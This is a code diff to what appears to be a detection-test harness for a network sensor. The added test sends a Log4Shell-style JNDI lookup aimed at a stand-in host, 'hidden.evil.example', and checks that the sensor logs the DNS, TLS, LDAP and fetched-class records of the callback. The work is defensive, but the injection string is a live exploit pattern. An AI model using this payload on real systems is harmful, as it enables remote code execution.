@@ -40,6 +40,41 @@ ATTACKS = [
 ]
 
 
+WANTED = [x for kind in ("dns", "tls", "ldap", "fileinfo", "flow") for x in ("--set", "outputs.eve-log.types.%s.enabled=yes" % kind)]
+
+
+def steps_of(sensor, lookup):
+    """What was told of the incident that the lookup began: the stages of the alerts that name it."""
+    told = [lab.facts(alert) for alert in sensor.alerts()]
+    ids = {part["incident"]["id"] for part in told if part.get("lookup") == lookup and "incident" in part}
+    return {part["stage"] for part in told if part.get("incident", {}).get("id") in ids}
+
+
+def records(sensor, kind):
+    return [event[kind] for event in sensor.events() if event["event_type"] == kind]
+
+
+def hidden_callback(program, peers):
+    """Of a callback inside TLS there is a name, a hello and a connection; and what was asked in clear is on record."""
+    sensor = lab.Sensor(program, "workers: 1", "-s", lab.TOP / "rules/incidents.rules", *WANTED)
+    lookup = "ldaps://hidden.evil.example:1636/" + LOCAL  # no name that the victim remembers, nor one of the certificate
+    lab.request("${jndi:%s}" % lookup)
+    # the name that is asked for, and a JDK's hello at the place that it leads to
+    lab.until("the callback of that lookup", lambda: {"lookup", "resolution", "callback"} <= steps_of(sensor, lookup))
+    assert peers.victim.ask("lookup %s%s" % (SERVER, REMOTE)).startswith("done")
+    sensor.settled()
+    hellos = [hello for hello in records(sensor, "tls") if hello.get("sni") == "hidden.evil.example"]
+    assert hellos and all(hello["ja4"].startswith("t13d") and len(hello["ja3"]["hash"]) == 32 for hello in hellos), hellos
+    asked = [part["request"] for part in records(sensor, "ldap") if "request" in part]
+    assert any(part.get("search_request", {}).get("base_object") == REMOTE for part in asked), asked
+    assert any(part["rrname"] == "hidden.evil.example" and part["type"] == "answer" for part in records(sensor, "dns"))
+    files = [part for part in records(sensor, "fileinfo") if part["filename"] == "/Payload.class"]
+    assert files and all(part["state"] == "CLOSED" and part["sha256"] == lab.FETCHED["sha256"] for part in files), files
+    sensor.stop()
+    flows = [(event.get("app_proto"), event["dest_port"]) for event in sensor.events() if event["event_type"] == "flow"]
+    assert {("tls", 1636), ("ldap", 1389), ("http", 8000)} <= set(flows), flows
+
+
 def main():
     program, classes = sys.argv[1:3]
     lab.enter("curl", "slapd", "slapadd", "openssl", "dnsmasq")
@@ -49,6 +84,7 @@ def main():
     sensor = lab.Sensor(program, "workers: 1")
     lab.play(sensor, peers.victim, ATTACKS)
     sensor.stop()
+    hidden_callback(program, peers)
 
 
 if __name__ == "__main__":
